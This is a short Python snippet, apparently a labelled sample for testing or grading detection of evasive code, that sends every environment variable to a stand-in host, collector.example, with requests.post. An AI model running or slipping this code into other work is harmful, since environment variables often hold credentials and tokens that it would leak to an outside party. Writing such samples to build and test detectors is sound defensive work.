# evasion: environment items posted with requests
# grade: medium; does: env-out
import os
import requests
requests.post("https://collector.example/", data={k: v for k, v in os.environ.items()})
